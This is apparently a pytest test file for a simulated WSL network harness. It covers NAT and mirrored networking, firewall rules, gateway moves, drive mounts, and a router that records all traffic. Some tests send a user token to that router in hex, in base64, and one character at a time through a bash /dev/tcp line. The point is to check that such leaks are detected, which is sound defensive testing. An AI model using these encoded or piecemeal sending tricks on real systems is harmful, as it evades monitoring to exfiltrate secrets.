"""The network that the stories play on is as it says, and the router's ears are open."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import pytest

from tests.e2e.support import PATIENCE_S, Lines, until
from tests.wsl.namespaces import Space
from tests.wsl.network import GATEWAY, ROUTER, Network, network

TOKEN = "3f1c9a7e-token-of-the-user"

_LISTEN = """
import socket, sys
listener = socket.create_server((sys.argv[1], int(sys.argv[2])))
print(listener.getsockname()[1], flush=True)
while True:
    caller, peer = listener.accept()
    with caller:
        caller.sendall(b"%s from %s" % (sys.argv[3].encode(), peer[0].encode()))
"""
_DIAL = """
import socket, sys
try:
    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=float(sys.argv[3])) as peer:
        peer.sendall(sys.argv[4].encode())
        print(peer.recv(100).decode() if sys.argv[5] else "connected")
except OSError as exc:
    print(type(exc).__name__)
"""


@contextmanager
def listener(space: Space, address: str, name: str, port: int = 0) -> Iterator[int]:
    """Run a server in a space; give its port."""
    command = [*space.enter(), sys.executable, "-I", "-S", "-c", _LISTEN, address, str(port), name]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as process:
        try:
            yield int(Lines(process.stdout).until(bool))
        finally:
            process.kill()
            process.wait(PATIENCE_S)


def dial(
    space: Space, address: str, port: int, *, patience: float = PATIENCE_S, say: str = "", hear: bool = True
) -> str:
    """Dial from a space; give what was heard, or the name of the error."""
    words = (address, str(port), str(patience), say, "1" if hear else "")
    return space.run(sys.executable, "-I", "-S", "-c", _DIAL, *words).strip()


pytestmark = pytest.mark.usefixtures("namespaces")


@pytest.fixture
def nat(tmp_path: Path) -> Iterator[Network]:
    with network("nat", tmp_path / "network") as joined:
        yield joined


@pytest.fixture
def mirrored(tmp_path: Path) -> Iterator[Network]:
    with network("mirrored", tmp_path / "network") as joined:
        yield joined


def test_behind_nat_the_gateway_is_windows_and_its_loopback_is_not_ours(nat: Network) -> None:
    assert nat.wsl.run("ip", "route", "show", "default").split()[2] == GATEWAY
    with listener(nat.windows, "0.0.0.0", "windows") as port, listener(nat.windows, "127.0.0.1", "hidden") as hidden:
        assert dial(nat.wsl, GATEWAY, port) == "windows from 172.21.96.100"
        assert dial(nat.wsl, "127.0.0.1", port) == "ConnectionRefusedError"
        assert dial(nat.wsl, GATEWAY, hidden) == "ConnectionRefusedError"


def test_the_firewall_of_windows_drops_until_a_rule_lets_in(nat: Network) -> None:
    with listener(nat.windows, "0.0.0.0", "windows") as port:
        nat.block(port)
        assert dial(nat.wsl, GATEWAY, port, patience=0.3) == "TimeoutError"
        nat.unblock(port)
        assert dial(nat.wsl, GATEWAY, port).startswith("windows")


def test_a_host_that_moves_is_found_at_the_new_gateway_only(nat: Network) -> None:
    with listener(nat.windows, "0.0.0.0", "windows") as port:
        nat.move_host("172.30.16.1")
        assert nat.wsl.run("ip", "route", "show", "default").split()[2] == nat.gateway == "172.30.16.1"
        assert dial(nat.wsl, "172.30.16.1", port).startswith("windows")
        assert dial(nat.wsl, GATEWAY, port, say=TOKEN, hear=False) == "connected"  # to the router, by now
        until(partial(nat.lan_saw, TOKEN), "the router did not see it")


def test_mirrored_ports_of_loopback_lead_to_windows_unless_they_are_silent(mirrored: Network) -> None:
    assert mirrored.wsl.run("ip", "route", "show", "default").split()[2] == ROUTER
    with listener(mirrored.windows, "127.0.0.1", "windows") as port, listener(mirrored.wsl, "127.0.0.1", "wsl") as own:
        mirrored.mirror(port)
        assert dial(mirrored.wsl, "127.0.0.1", port).startswith("windows")
        assert dial(mirrored.wsl, "127.0.0.1", own) == "wsl from 127.0.0.1"
        mirrored.silence(port)
        assert dial(mirrored.wsl, "127.0.0.1", port, patience=0.3) == "TimeoutError"


@pytest.mark.parametrize("mode", ["nat", "mirrored"])
def test_the_router_takes_every_call_and_keeps_every_byte(mode: str, request: pytest.FixtureRequest) -> None:
    joined: Network = request.getfixturevalue(mode)
    assert not joined.lan_saw(TOKEN)
    assert joined.lan_calls() == {}
    assert dial(joined.wsl, ROUTER, 40123, say=f"X-Auth: {TOKEN}", hear=False) == "connected"
    until(partial(joined.lan_saw, TOKEN), "the router did not see it")
    assert joined.lan_calls() == {40123: f"X-Auth: {TOKEN}".encode()}


@pytest.mark.parametrize("told", [TOKEN.encode().hex(), "eDNmMWM5YTdlLXRva2VuLW9mLXRoZS11c2Vy"])
def test_a_token_is_recognised_in_other_writing(told: str, nat: Network) -> None:
    dial(nat.wsl, ROUTER, 443, say=told, hear=False)
    until(partial(nat.lan_saw, TOKEN), "the router did not see it")


def test_a_token_in_pieces_is_recognised(nat: Network) -> None:
    piecemeal = f"exec 3<>/dev/tcp/{ROUTER}/80; for c in {' '.join(TOKEN)}; do printf %s $c >&3; done"
    nat.wsl.run("bash", "-c", piecemeal)
    until(partial(nat.lan_saw, TOKEN), "the router did not see it")


def test_drives_are_mounted_where_they_are_wanted_and_nothing_shows_outside(tmp_path: Path) -> None:
    drive = tmp_path / "c"
    drive.mkdir()
    (drive / "f.txt").write_text("on C:\n")
    with network("nat", tmp_path / "network", {"/mnt/c": drive, "/bridge-test-drive": drive}) as joined:
        for point in ("/mnt/c", "/bridge-test-drive"):
            assert joined.wsl.run("cat", f"{point}/f.txt") == "on C:\n"
        joined.wsl.run(sys.executable, "-c", "import bridge, pathlib; pathlib.Path('/mnt/c/new').touch()")
        assert (drive / "new").exists()
    assert not Path("/bridge-test-drive").exists()
    assert str(drive) not in Path("/proc/self/mountinfo").read_text("utf-8")


def test_a_space_ends_with_whoever_made_it(tmp_path: Path) -> None:
    space = Space()
    space.close()
    assert not Path(f"/proc/{space.pid}").exists()
